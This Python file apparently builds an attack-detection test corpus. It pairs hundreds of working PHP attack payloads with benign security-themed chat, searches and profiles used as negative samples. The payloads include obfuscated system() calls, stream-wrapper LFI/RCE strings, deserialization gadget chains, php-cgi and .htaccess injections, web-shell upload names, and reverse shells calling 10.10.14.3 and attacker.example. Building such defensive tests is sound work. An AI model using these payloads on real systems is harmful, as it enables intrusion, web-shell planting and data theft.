# target: the PHP interpreter (PHP 7+ for the parenthesised-expression calls)
VARIABLE_FUNCTIONS: list[Entry] = [
    "$f='system';$f('id');",
    "$a='sys'.'tem';$a('id');",
    "('sy'.'stem')('id');",
    "'system'('cat /etc/passwd');",
    "(system)('id');",
    "$x=str_rot13('flfgrz');$x('id');",
    "$f=strrev('metsys');$f('whoami');",
    "$f=base64_decode('c3lzdGVt');$f('id');",
    "$f=hex2bin('73797374656d');$f('id');",
    "$f=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$f('id');",
    "$f=implode('',['sys','tem']);$f('uname -a');",
    "$f=str_replace('x','','sxyxsxtxexm');$f('id');",
    "\"\\x73\\x79\\x73\\x74\\x65\\x6d\"('id');",
    "\"\\163\\171\\163\\164\\145\\155\"('id');",
    # no letters or digits at all: XOR and NOT build the names (course on "non-alphanumeric" shells)
    "$_=\"`{{{\"^\"?<>/\";${$_}[_](${$_}[__]);",
    "(~\x8c\x86\x8c\x8b\x9a\x92)(~\x96\x9b);",
    # callbacks: the function name passed as a string
    "call_user_func('system','id');",
    "call_user_func_array('passthru',['id']);",
    "array_map('system',['id']);",
    "array_filter(['whoami'],'system');",
    "register_shutdown_function('system','id');",
    "$a=['id'];array_walk($a,'passthru');",
    "usort($_GET,'system');",
    # reflection and callable arrays
    "(new ReflectionFunction('system'))->invoke('id');",
    "[new SplFileObject('/etc/passwd'),'fpassthru']();",
    "${'_'.'GET'}['a'](${'_'.'GET'}['b']);",
    "$_GET['f']($_GET['a']);",
]

# php-wrappers: stream wrappers handed to include/file_get_contents/fopen (LFI to source disclosure and RCE)
# target: the PHP interpreter's stream layer (expect:// needs the expect extension, data:// allow_url_include)
WRAPPERS: list[Entry] = [
    # the LFI chapter's source-disclosure filter
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=convert.base64-encode/resource=config.php",
    "php://filter/convert.base64-encode/resource=../../../../etc/passwd",
    "php://filter/string.rot13/resource=index.php",
    "php://filter/read=string.toupper|string.rot13/resource=flag.php",
    "php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/wp-config.php",
    "php://filter/resource=/etc/passwd",
    "pHp://FilTer/convert.base64-encode/resource=index.php",
    # write filters: file_put_contents through a filter strips the "<?php exit;" prefix the challenge adds
    "php://filter/write=convert.base64-decode/resource=shell.php",
    "php://filter/write=string.rot13/resource=s.php",
    # request body as the included file
    "php://input",
    # data wrapper: the included "file" is the payload itself
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+",
    "data://text/plain,<?php phpinfo(); ?>",
    "data:text/plain,<?php system('id');?>",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    # expect wrapper runs a command
    "expect://id",
    "expect://cat /etc/passwd",
    # archive wrappers: an uploaded "image" that is really an archive holding PHP
    "zip://uploads/avatar.jpg#shell.php",
    "zip:///var/www/html/uploads/profile.zip#rce.php",
    "phar://uploads/avatar.jpg/shell.php",
    "phar:///var/www/html/uploads/evil.phar/test.txt",
    "compress.zlib://phar:///tmp/sess_upload.phar/x",
    "compress.zlib:///etc/passwd",
    # glob wrapper: directory listing through DirectoryIterator
    "glob:///var/www/html/*",
    "glob://../*.php",
    "file:///etc/passwd",
]

# php-object-injection: serialized objects handed to unserialize() (cookies, hidden fields, phar metadata)
# target: the PHP interpreter's unserialize() and the gadget classes of the application or its libraries
OBJECT_INJECTION: list[Entry] = [
    # academy lab "modifying serialized objects": flip the admin flag in the session cookie
    "O:4:\"User\":2:{s:8:\"username\";s:6:\"wiener\";s:5:\"admin\";b:1;}",
    # academy lab "modifying serialized data types": integer 0 equals any string under PHP 7 loose comparison
    "O:4:\"User\":2:{s:8:\"username\";s:13:\"administrator\";s:12:\"access_token\";i:0;}",
    "a:2:{s:8:\"username\";s:5:\"admin\";s:8:\"password\";b:1;}",
    # the same cookie base64-encoded, as the application stores it
    "Tzo0OiJVc2VyIjoyOntzOjg6InVzZXJuYW1lIjtzOjY6IndpZW5lciI7czo1OiJhZG1pbiI7YjoxO30=",
    # academy lab "arbitrary object injection": a __destruct() that deletes a file
    "O:14:\"CustomTemplate\":1:{s:14:\"lock_file_path\";s:23:\"/home/carlos/morale.txt\";}",
    # the classic documentation examples: __destruct() unlinks, __wakeup() evals a private hook
    "O:8:\"Example1\":1:{s:10:\"cache_file\";s:15:\"../../index.php\";}",
    "O:8:\"Example2\":1:{s:14:\"\x00Example2\x00hook\";s:10:\"phpinfo();\";}",
    "a:1:{i:0;O:8:\"Example1\":1:{s:10:\"cache_file\";s:15:\"../../index.php\";}}",
    # university assignment: a logger class whose destructor writes a web shell
    "O:6:\"Logger\":2:{s:7:\"logFile\";s:21:\"/var/www/html/cmd.php\";s:7:\"logData\";"
    "s:30:\"<?php system($_GET['cmd']); ?>\";}",
    # filter-bypass chapter: a plus sign before the length defeats /O:\d+:/, a wrong count skips __wakeup
    "O:+4:\"User\":2:{s:8:\"username\";s:5:\"admin\";s:5:\"admin\";b:1;}",
    "O:4:\"Demo\":2:{s:4:\"file\";s:8:\"flag.php\";}",
    "a:1:{i:0;O:+8:\"Example1\":1:{s:10:\"cache_file\";s:9:\"index.php\";}}",
    # SSRF through SoapClient::__call
    "O:10:\"SoapClient\":2:{s:3:\"uri\";s:4:\"http\";s:8:\"location\";s:31:\"http://127.0.0.1/internal/admin\";}",
    # gadget chains of popular libraries, as the course's chain generator prints them
    "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"\x00*\x00events\";O:15:\"Faker\\Generator\":1:"
    "{s:13:\"\x00*\x00formatters\";a:1:{s:8:\"dispatch\";s:6:\"system\";}}s:8:\"\x00*\x00event\";s:2:\"id\";}",
    "O:24:\"GuzzleHttp\\Psr7\\FnStream\":2:{s:33:\"\x00GuzzleHttp\\Psr7\\FnStream\x00methods\";a:1:{s:5:\"close\";"
    "s:7:\"phpinfo\";}s:9:\"_fn_close\";s:7:\"phpinfo\";}",
    "O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"\x00*\x00socket\";O:29:\"Monolog\\Handler\\BufferHandler\""
    ":7:{s:10:\"\x00*\x00handler\";r:2;s:13:\"\x00*\x00bufferSize\";i:-1;s:9:\"\x00*\x00buffer\";a:1:{i:0;a:2:"
    "{i:0;s:2:\"id\";s:5:\"level\";N;}}s:8:\"\x00*\x00level\";N;s:14:\"\x00*\x00initialized\";b:1;"
    "s:14:\"\x00*\x00bufferLimit\";i:-1;s:13:\"\x00*\x00processors\";a:2:{i:0;s:7:\"current\";i:1;s:6:\"system\";}}}",
    # Joomla 1.5-3.4.5 session injection (CVE-2015-8562), sent in User-Agent as the exploit did
    ("}__test|O:21:\"JDatabaseDriverMysqli\":3:{s:4:\"\\0\\0\\0a\";O:17:\"JSimplepieFactory\":0:{}"
     "s:21:\"\\0\\0\\0disconnectHandlers\";a:1:{i:0;a:2:{i:0;O:9:\"SimplePie\":5:{s:8:\"sanitize\";"
     "O:20:\"JDatabaseDriverMysql\":0:{}s:5:\"cache\";b:1;s:19:\"cache_name_function\";s:6:\"assert\";"
     "s:10:\"javascript\";i:9999;s:8:\"feed_url\";s:37:\"phpinfo();JFactory::getConfig();exit;\";}"
     "i:1;s:4:\"init\";}}s:13:\"\\0\\0\\0connection\";i:1;}", *UA_LINE),
    # custom-serialised classes (C:) and SPL containers carrying an object
    "C:11:\"ArrayObject\":66:{x:i:0;a:1:{i:0;O:4:\"Demo\":1:{s:4:\"file\";s:8:\"flag.php\";}};m:a:0:{}}",
    "C:16:\"SplObjectStorage\":71:{x:i:1;O:8:\"Example1\":1:{s:10:\"cache_file\";s:9:\"index.php\";},N;;m:a:0:{}}",
    # CTF chapter: a reference makes the password follow the secret __wakeup() generates
    "O:5:\"Login\":2:{s:6:\"secret\";N;s:8:\"password\";R:2;}",
    # WordPress-style option value holding an object
    "a:2:{i:0;s:5:\"admin\";i:1;O:8:\"WP_Theme\":1:{s:8:\"template\";s:15:\"../../../../tmp\";}}",
    # phar deserialisation: a file-system function on a phar:// path unserializes the metadata
    "phar://./uploads/profile.gif",
    # academy lab "developing a custom gadget chain": a map whose callback runs on a missing key
    "O:10:\"DefaultMap\":1:{s:8:\"callback\";s:4:\"exec\";}",
    # university assignment: a nested user object and a plain object carrying the role the check reads
    "O:7:\"Session\":1:{s:4:\"user\";O:4:\"User\":2:{s:8:\"username\";s:5:\"admin\";s:7:\"isAdmin\";b:1;}}",
    "O:8:\"stdClass\":1:{s:4:\"role\";s:13:\"administrator\";}",
]

# php-config-directives: php.ini directives set by the attacker (php-cgi arguments, .htaccess, .user.ini,
# FastCGI parameters, ini_set)
# target: the PHP interpreter's configuration (php-cgi CVE-2012-1823 / CVE-2024-4577, Apache mod_php, PHP-FPM)
CONFIG: list[Entry] = [
    # php-cgi argument injection: the query string becomes -d switches
    "-d allow_url_include=1 -d auto_prepend_file=php://input",
    "-d safe_mode=Off -d disable_functions=NULL -d open_basedir=Off -d auto_prepend_file=php://input",
    "-d allow_url_include=on -d auto_prepend_file=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    # CVE-2024-4577: the Windows best-fit soft hyphen becomes '-'
    "\xadd allow_url_include=1 \xadd auto_prepend_file=php://input",
    # .user.ini and .htaccess uploads (the upload chapter after "extension blacklists")
    "auto_prepend_file=php://input",
    "auto_prepend_file=\"/var/www/html/uploads/avatar.gif\"",
    "auto_append_file=/var/www/html/uploads/notes.txt",
    "php_value auto_prepend_file \"/var/www/html/uploads/avatar.png\"",
    "php_value auto_append_file /tmp/sess_f00dfeed",
    "AddType application/x-httpd-php .jpg",
    "AddHandler application/x-httpd-php .png",
    "<FilesMatch \"\\.gif$\">\nSetHandler application/x-httpd-php\n</FilesMatch>",
    "php_flag engine on",
    "php_value zend.multibyte 1\nphp_value zend.script_encoding \"UTF-7\"",
    "php_value include_path \"/var/www/html/uploads\"\nphp_value auto_prepend_file shell.txt",
    # FastCGI parameters sent straight to an exposed PHP-FPM port
    "PHP_VALUE=auto_prepend_file = php://input",
    "PHP_ADMIN_VALUE=allow_url_include = On\nauto_prepend_file = php://input",
    "allow_url_include=On",
    "allow_url_fopen=On\nallow_url_include=On",
    # ini_set() from injected code: the open_basedir escape the CTF course teaches
    "chdir('img');ini_set('open_basedir','..');chdir('..');chdir('..');chdir('..');ini_set('open_basedir','/');"
    "echo file_get_contents('/etc/passwd');",
    "ini_set('error_log','/var/www/html/uploads/e.php');error_log('<?php system($_GET[0]); ?>');",
    "ini_set('include_path','/tmp');include('sess_attacker');",
    "ini_set('session.save_path','/var/www/html/uploads');session_start();$_SESSION['x']='<?php system($_GET[0]);?>';",
    "session.upload_progress.cleanup=0",
    "auto_prepend_file=sess_f00dfeed\ninclude_path=/var/lib/php/sessions",
    "auto_prepend_file=/proc/self/environ",
    "php_flag short_open_tag on\nAddType application/x-httpd-php .txt",
]

# superglobals: code and request-variable overwrites reaching $_GET/$_POST/$_REQUEST/$_COOKIE/$_SERVER/$_SESSION
# target: the PHP interpreter (register_globals/extract()/parse_str() overwrites on PHP 4-5 era code)
SUPERGLOBALS: list[Entry] = [
    "system($_GET['c']);",
    "eval($_POST['x']);",
    "assert($_REQUEST['a']);",
    "$_REQUEST['x']($_REQUEST['y']);",
    "@$_GET[1]($_POST[2]);",
    "${_GET}[0](${_GET}[1]);",
    "$GLOBALS['_GET']['f']($GLOBALS['_GET']['a']);",
    "array_map($_REQUEST['f'],[$_REQUEST['a']]);",
    "system($_SERVER['HTTP_X_CMD']);",
    "system(getallheaders()['X-Cmd']);",
    "eval(file_get_contents('php://input'));",
    "eval($_COOKIE['z']);",
    "system($HTTP_GET_VARS['cmd']);",
    "print_r($_SERVER);",
    "var_dump($_ENV);",
    "echo $_SESSION['flag'];",
    "$_SESSION['is_admin']=1;",
    "file_put_contents($_GET['f'],$_POST['d']);",
    "move_uploaded_file($_FILES['f']['tmp_name'],'/var/www/html/'.$_FILES['f']['name']);",
    "extract($_GET);$fn($arg);",
    "parse_str($_SERVER['QUERY_STRING']);",
    # register_globals / extract() overwrites as request parameters (PHP 4-5 course material)
    ("_SESSION[admin]=1", *PAIR),
    ("_SESSION[user_id]=1&_SESSION[logged_in]=1", *PAIR),
    ("GLOBALS[is_admin]=1", *PAIR),
    ("_SERVER[REMOTE_ADDR]=127.0.0.1", *PAIR),
    ("_COOKIE[role]=admin", *PAIR),
    ("_FILES[f][tmp_name]=/etc/passwd", *PAIR),
]

# php-file-upload: web-shell file names that slip past extension checks
# target: Apache mod_php / nginx + PHP-FPM handler mappings, Windows file-name normalisation, naive filters
FILE_UPLOAD: list[Entry] = [
    ("shell.php", *UPLOAD),
    ("shell.phtml", *UPLOAD),
    ("shell.phar", *UPLOAD),
    ("shell.php5", *UPLOAD),
    ("shell.php7", *UPLOAD),
    ("shell.pht", *UPLOAD),
    ("shell.phps", *UPLOAD),
    ("shell.pgif", *UPLOAD),
    ("shell.inc", *UPLOAD),
    ("exploit.pHp", *UPLOAD),
    ("avatar.PhP5", *UPLOAD),
    ("shell.php.jpg", *UPLOAD),
    ("avatar.jpg.php", *UPLOAD),
    ("shell.php\x00.jpg", *UPLOAD),
    ("shell.php%00.png", *UPLOAD),
    ("shell.php;.jpg", *UPLOAD),
    ("shell.php.", *UPLOAD),
    ("shell.php ", *UPLOAD),
    ("shell.php::$DATA", *UPLOAD),
    ("shell.p.phphp", *UPLOAD),
    ("../../../var/www/html/shell.php", *UPLOAD),
    ("..%2fexploit.php", *UPLOAD),
    (".htaccess", *UPLOAD),
    (".user.ini", *UPLOAD),
    ("filename*=UTF-8''shell.php", *UPLOAD),
    ("polyglot.phar.jpg", *UPLOAD),
    ("shell.php4", *UPLOAD),
]

# php-high-risk-function-names: the functions a disable_functions list is meant to stop, and the bypasses a
# course shows once it is in place (LD_PRELOAD, iconv/GCONV, FFI, imap_open)
# target: the PHP interpreter and the host underneath it
HIGH_RISK: list[Entry] = [
    "$s=fsockopen('10.10.14.3',4444);$p=proc_open('/bin/sh -i',[0=>$s,1=>$s,2=>$s],$x);",
    "$s=pfsockopen('attacker.example',443);while($c=fgets($s))fwrite($s,shell_exec($c));",
    "pcntl_exec('/bin/bash',['-c','id > /tmp/o']);",
    "dl('evil.so');",
    "putenv('LD_PRELOAD=/tmp/evil.so');mail('a@example.org','','','');",
    "putenv('GCONV_PATH=/tmp/');iconv('payload','UTF-8','x');",
    "$ffi=FFI::cdef('int system(const char *command);');$ffi->system('id > /tmp/o');",
    "imap_open('{x -oProxyCommand=echo\taWQ+L3RtcC9wd25lZA==|base64\t-d|sh}','','');",
    "mail('a@example.org','x','y','','-OQueueDirectory=/tmp -X/var/www/html/rce.php');",
    "symlink('/etc/passwd','/var/www/html/uploads/p.txt');",
    "link('/etc/shadow','/var/www/html/s.txt');",
    "chmod('/var/www/html/shell.php',0777);",
    "print_r(posix_getpwuid(posix_geteuid()));",
    "posix_kill(getppid(),9);",
    "show_source('/etc/passwd');",
    "readfile('/proc/self/environ');",
    "print_r(parse_ini_file('/var/www/html/.env'));",
    "echo get_cfg_var('disable_functions');",
    "eval(gzinflate(base64_decode('K64sLknN1VCJd3cNiVZPVo/VtAYA')));",
    "eval(str_rot13('flfgrz(\"vq\");'));",
    "ob_start('system');echo 'id';ob_end_flush();",
    "fwrite(fopen('s.php','w'),'<?php system($_GET[c]);?>');",
    "copy('http://attacker.example/s.txt','/var/www/html/s.php');",
    "unlink('/var/www/html/.htaccess');",
    "rename('uploads/a.jpg','uploads/a.php');",
    "foreach(new DirectoryIterator('glob:///var/www/*') as $f)echo $f.' ';",
    "print_r(get_defined_vars());",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("xss", "libinjection-xss", LIBINJECTION),
    ("xss", "script-tag", SCRIPT_TAG),
    ("xss", "event-handler", EVENT_HANDLER),
    ("xss", "attribute-vector", ATTRIBUTE),
    ("xss", "javascript-uri", JAVASCRIPT_URI),
    ("xss", "html-injection", HTML_INJECTION),
    ("xss", "svg-mathml", SVG_MATHML),
    ("xss", "css-expression", CSS_EXPRESSION),
    ("xss", "template-literal-dom-sink", DOM_SINK),
    ("xss", "ie-filter-style", IE_FILTER),
    ("xss", "encoded-entity", ENCODED),
    ("xss", "angular-vue-client-template", CLIENT_TEMPLATE),
    ("php", "php-open-tag", OPEN_TAG),
    ("php", "php-function-call", FUNCTION_CALL),
    ("php", "php-variable-functions", VARIABLE_FUNCTIONS),
    ("php", "php-wrappers", WRAPPERS),
    ("php", "php-object-injection", OBJECT_INJECTION),
    ("php", "php-config-directives", CONFIG),
    ("php", "superglobals", SUPERGLOBALS),
    ("php", "php-file-upload", FILE_UPLOAD),
    ("php", "php-high-risk-function-names", HIGH_RISK),
]
# request-variable overwrites and prototype-pollution pairs written as `name=value`, sent unquoted
RAW_KV_SUBS = {"superglobals", "template-literal-dom-sink"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    raw_places = ("form", "param-name", "rs-param-name")
    unique = True
    # a course's web shell: what every attack upload carries
    upload = "<?php echo shell_exec($_GET['e'].' 2>&1'); ?>"
    file_type = "application/x-php"
    xss_names = ("q", "search", "name", "comment", "message", "title", "returnUrl", "callback", "bio")
    php_names = ("cmd", "code", "page", "file", "data", "template", "expr", "lang", "include")
    path_forbids = "/?#"
    raw_body_forbids = "&"
    raw_body_pair = True
    xml_controls = "\n\t"

    def name(self, category: str, sub: str, k: int) -> str:
        names = self.xss_names if category == "xss" else self.php_names
        return names[k % len(names)]

    def is_latin(self, sub: str, payload: str) -> bool:
        """PHP payloads made of raw bytes (a NOT-encoded name, the soft hyphen) go as those bytes."""
        return sub.startswith("php") and any("\x80" <= ch <= "\xff" for ch in payload)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (engineers and students talking about security courses, exams and
# labs in Slack, bios of trainers and students, searches by certification, links to course and documentation
# pages, code-review comments about sanitising input, quoted error messages, course-material file names)
CHAT = [
    # study groups and exams
    "OSWE exam booked for March 14, wish me luck. 48 hours of white-box review",
    "study group for the web security cert meets Thursdays 18:00 in the small meeting room",
    "anyone else doing the PortSwigger Academy path? I'm on the DOM-based XSS labs now",
    "finished the cross-site scripting module, 28 of 30 labs solved, the two expert ones can wait",
    "the OSCP syllabus barely touches XSS, it's mostly privilege escalation",
    "who has the notes from chapter 12 of the web app hacker's handbook? attacking users, part one",
    "quick question: what's the actual difference between stored and reflected XSS?",
    "is DOM XSS a separate class or just reflected XSS that never reaches the server?",
    "the SANS course book 4 is all about client-side attacks, bring a highlighter",
    "exam tip from the instructor: read the question twice, half the marks are for the remediation",
    "passed the eWPT today! report writing took longer than the actual testing",
    "the university's secure coding module has an assignment on PHP object injection due Friday",
    "does anyone understand how PHP type juggling makes '0e123' == '0e456' true? the slides skip it",
    "lecture 7 covers PHP stream wrappers, lecture 8 is file upload vulnerabilities",
    "our TA said the deserialization lab needs PHP 7.4, the docker image in the repo has it",
    "flashcards for the exam: same-origin policy, CSP, CORS, SameSite cookies",
    "the academy's AngularJS sandbox labs are marked expert, save them for after the exam",
    "study plan: XSS contexts this week, CSRF next week, then SSRF and deserialization",
    "who's going to the OWASP chapter meetup? the talk is on content security policy",
    "the workshop at the conference was on mutation XSS in sanitizers, slides are up",
    "Juice Shop in the training VM: score board challenge first, then the XSS tier",
    "does the GWAPT count toward our training budget? finance asked",
    # code review and engineering
    "review comment: please escape the bio before rendering, use textContent instead of innerHTML",
    "left a note on the PR: the search term goes into the page without encoding, that's a reflected XSS",
    "we should sanitise the display name on input AND encode on output, not one or the other",
    "the template already autoescapes, so the |safe filter on line 42 is the only risky bit",
    "can we add a CSP header with script-src 'self'? the inline onclick handlers need to move first",
    "the markdown renderer allows raw HTML by default, switching that off in the config",
    "DOMPurify is already a dependency of the admin UI, let's just use it for the comment preview",
    "rule of thumb from the training: never put user input into eval, setTimeout strings or new Function",
    "the legacy PHP admin still calls unserialize() on a cookie, ticket to move it to json_decode",
    "security review: the upload endpoint checks the extension but not the content type, low risk since "
    "files go to object storage",
    "PHP 8 removed create_function and the /e modifier, so that old finding is closed",
    "the php.ini on the build box has allow_url_include off and disable_functions set, verified",
    "please don't store serialized PHP arrays in the session table, use JSON",
    "we replaced the shell_exec call in the thumbnailer with the Imagick extension",
    "the linter flags eval() now, there were two in the old plugin code",
    "autoescape is on in Jinja for .html templates only, the .txt email templates aren't escaped on purpose",
    # quoted error messages
    "getting 'Refused to execute inline script because it violates the following Content Security Policy "
    "directive' after the header change, expected?",
    "PHP Warning: include(config.local.php): Failed to open stream: No such file or directory in "
    "/srv/app/bootstrap.php on line 12",
    "PHP Fatal error: Uncaught Error: Call to undefined function mysql_connect() - the old course VM is PHP 7",
    "Notice: unserialize(): Error at offset 0 of 40 bytes, the cache file got truncated",
    "Uncaught TypeError: Cannot read properties of null (reading 'innerHTML') on the profile page",
    "the browser console says: Blocked a frame with origin from accessing a cross-origin frame",
    "docker says the training image needs php8.2-cli and php8.2-xml, added both",
    # support and planning
    "the customer asked if we're vulnerable to the XSS in their pentest report, it was a false positive",
    "can someone confirm the WAF doesn't block people named Script? we have a user called Scripta",
    "training budget request: two seats on the secure PHP development course in June",
    "brown-bag lunch Friday: 'XSS in 2024, is it still a thing?' by Priya",
    "the CTF club at the university wants a speaker on web security, any volunteers?",
    "new hire onboarding includes the OWASP top 10 video and a short quiz",
    "exam results are out next Wednesday, fingers crossed",
    "the lab environment resets every night at 02:00, save your notes somewhere else",
    "who booked the training room for the SVG and MathML workshop? it's double-booked",
    "reminder: the phishing awareness module is mandatory, deadline end of month",
    "the course forum answer says the alert box is only a proof of concept, real impact is session theft",
    "slides for my talk on Content Security Policy nonces are in the team folder",
    "I keep confusing the HTML entity encoding rules with the URL encoding ones, any good cheat sheet?",
    "the secure coding course uses Laravel for the PHP part and Vue for the front end",
    # bios
    "Security trainer. I teach the web application security course and run the XSS labs.",
    "Student, MSc Cyber Security. Thesis on client-side template injection in single-page apps.",
    "AppSec engineer, OSWE and GWAPT. Code review, threat modelling, training new devs.",
    "PHP developer for 12 years, Laravel and Symfony. Recently certified in secure coding.",
    "Frontend dev. Vue 3, TypeScript, and a strong opinion about v-html.",
    "Teaching assistant for CS 4460 Web Security. Office hours Tuesdays 2-4pm.",
    "Bug bounty hunter in my spare time, mostly XSS and IDOR. Speaker at local OWASP meetups.",
    "Preparing for the OSCP. Ask me about my lab notes.",
    "Course author: Secure PHP from Scratch (unserialize, uploads, stream wrappers)",
    "Lecturer in information security. Office in building C, room 214.",
]

SEARCHES = [
    "oswe", "oscp", "gwapt", "ewpt", "cissp", "security+", "sans", "owasp", "trainer", "instructor",
    "php", "laravel", "symfony", "vue", "angular", "xss", "appsec", "secure coding", "teaching assistant",
    "Scripta", "svg", "Alert", "Marquee", "Iframe", "Object", "Frame", "Eval", "Hook", "Exec", "System",
    "Phar", "Filter", "Glob", "Zip", "Expect", "Data", "Input", "Session", "Shell", "bootcamp",
]

URLS = [
    "https://portswigger.net/web-security/cross-site-scripting",
    "https://portswigger.net/web-security/cross-site-scripting/dom-based",
    "https://portswigger.net/web-security/cross-site-scripting/contexts/client-side-template-injection",
    "https://portswigger.net/web-security/deserialization/exploiting",
    "https://portswigger.net/web-security/file-upload",
    "https://owasp.org/www-community/attacks/xss/",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://cheatsheetseries.owasp.org/cheatsheets/File_Upload_Cheat_Sheet.html",
    "https://owasp.org/www-project-web-security-testing-guide/",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://www.php.net/manual/en/ini.core.php#ini.auto-prepend-file",
    "https://www.php.net/manual/en/language.oop5.magic.php",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/CSP",
    "https://developer.mozilla.org/en-US/docs/Web/API/Element/innerHTML#security_considerations",
    "https://www.offsec.com/courses/web-300/",
    "https://www.sans.org/cyber-security-courses/web-app-penetration-testing-ethical-hacking/",
    "https://angular.io/guide/security",
    "https://vuejs.org/guide/best-practices/security.html",
    "https://learn.example.edu/cs4460/week-5-xss-lab.html",
]

PROSE = [
    "web security study group",
    "OSWE candidates",
    "people who passed GWAPT",
    "trainers for the secure coding course",
    "XSS lab volunteers",
    "script writers for the training videos",
    "Alert Team on-call",
    "frame shop order export",
    "object storage migration owners",
    "embed team",
    "Base camp offsite attendees",
    "meta data working group",
    "link checker owners",
    "form builder team",
    "style guide reviewers",
    "template owners (email)",
    "eval committee for the new hires",
    "filter by team: appsec",
    "session speakers for the conference",
    "input validation guild",
    "PHP upgrade owners",
    "system administrators",
    "exec assistants",
    "shell company audit",
    "data protection officers",
    "phar lap race sweepstake",
    "bootcamp graduates 2024",
    "zip code update requests",
    "expect delays on the Friday release",
    "wrapper service owners",
    "injection moulding supplier contacts",
    "upload limit increase requests",
    "config review for June",
    "high risk accounts review",
    "certification renewals due in Q3",
    "chapter leads, OWASP",
    "exam proctors",
    "course feedback forms",
    "angular migration squad",
    "vue front-end guild",
]

PROFILES = [
    ("Scripta Marquez", "Calle Mayor 5, Madrid"),
    ("Alert Logistics GmbH", "Hafenstr. 22, Hamburg"),
    ("Frame & Object Gallery", "Rue Oberkampf 40, Paris"),
    ("Angular Dental Studio", "Via Roma 3, Turin"),
    ("Vue Optique", "Place Bellecour 1, Lyon"),
    ("Eval Consulting", "King St 12, Sydney"),
    ("System Integrators BV", "Stationsplein 4, Utrecht"),
    ("Shell Beach Surf School", "Shell Beach Rd 8, Pismo Beach"),
    ("Phar Pharmacy", "High St 90, Oxford"),
    ("Base Camp Outdoor", "Alpine Way 2, Chamonix"),
    ("Iframe Studios", "Sunset Blvd 500, Los Angeles"),
    ("Session Musicians Co-op", "Temple Bar 7, Dublin"),
    ("Expect Nothing Records", "Kottbusser Str 9, Berlin"),
    ("Glob Art Supplies", "Nørrebrogade 30, Copenhagen"),
    ("Zip Couriers", "Dock Rd 14, Cape Town"),
    ("Filter Coffee House", "Spadina Ave 200, Toronto"),
    ("Data Academy", "Tech Campus 1, Tallinn"),
    ("Secure Coding Institute", "University Ave 3, Palo Alto"),
    ("Style & Template Printing", "Market St 88, San Francisco"),
    ("Object Oriented Bakery", "Brick Lane 21, London"),
]

UPLOAD_NAMES = [
    "week3-xss-lab-handout.pdf", "sec542-book4-notes.docx", "php-object-injection-slides.pptx",
    "oswe-study-plan.xlsx", "secure-php-course-syllabus.pdf", "owasp-top10-2021-poster.png",
    "csp-workshop-exercises.zip", "lecture07-stream-wrappers.pdf", "lecture08-file-uploads.pdf",
    "exam-certificate-gwapt.pdf", "angularjs-sandbox-history.md", "training-room-booking.ics",
    "xss-contexts-cheatsheet.pdf", "assignment2-deserialization.tar.gz", "lab-vm-setup.txt",
    "student-roster-cs4460.csv", "study-group-notes.md", "phishing-awareness-quiz-results.csv",
    "report-template-pentest.docx", "profile-photo.jpg",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.4.1 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/125.0.0.0 Safari/537.36 Edg/125.0.0.0"),
    ("User-Agent", "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0"),
    ("User-Agent", "Slackbot 1.0 (+https://api.slack.com/robots)"),
    ("User-Agent", "GuzzleHttp/7"),
    ("User-Agent", "axios/1.7.2"),
    ("Referer", "https://portswigger.net/web-security/cross-site-scripting/contexts"),
    ("Referer", "https://learn.example.edu/cs4460/assignments/2"),
    ("Referer", "https://www.php.net/manual/en/function.htmlspecialchars.php"),
    ("Referer", "https://app.example.com/admin/users?q=trainer&sort=name"),
    ("Referer", "https://www.google.com/search?q=stored+vs+reflected+xss"),
    ("Referer", "https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html"),
    ("X-Api-Version", "2024-05-15"),
    ("X-Request-Id", "b7e4c2d0-91a3-4f6e-8c25-3d0f9a1e6b72"),
    ("Accept-Language", "fr-FR,fr;q=0.9,en;q=0.8"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
    ("Cookie", "session=abc123; theme=dark; lang=en"),
    ("Cookie", "session=abc123; last_course=web-security-101; tz=America%2FNew_York"),
    ("Cache-Control", "no-cache"),
    ("X-Forwarded-For", "203.0.113.77"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
